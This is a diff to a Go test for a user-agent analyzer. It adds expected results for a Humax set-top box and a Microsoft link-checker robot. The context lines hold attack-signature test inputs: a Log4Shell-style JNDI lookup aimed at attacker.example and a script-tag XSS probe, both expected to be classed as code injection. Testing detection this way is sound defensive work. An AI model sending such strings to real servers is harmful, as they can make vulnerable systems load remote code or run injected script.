@@ -108,6 +108,10 @@ func TestTableFactsReachTheAnalyzer(t *testing.T) {
 		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) SparkMail/3.20.1 Chrome/120.0.6099.109 Safari/537.36", "AgentName", "Spark mail"},
 		// robot_device_names.tsv
 		{"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "DeviceName", "Microsoft BingBot"},
+		// set_top_box_makers.tsv
+		{"Mozilla/5.0 (X11; Linux armv7l; Humax HGA12R) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/68.0.3440.106 Safari/537.36", "DeviceBrand", "Humax"},
+		// domain_brands.tsv (a robot whose contact is on Microsoft's link shortener)
+		{"Mozilla/5.0 (compatible; LinkCheck/2.1; +https://aka.ms/linkcheck)", "DeviceBrand", "Microsoft"},
 		// attack_signatures.tsv, one fragment of each family
 		{"Mozilla/5.0 ${jndi:ldap://attacker.example/a}", "HackerAttackVector", "Code Injection"},
 		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) <script>alert(1)</script>", "HackerAttackVector", "Code Injection"},
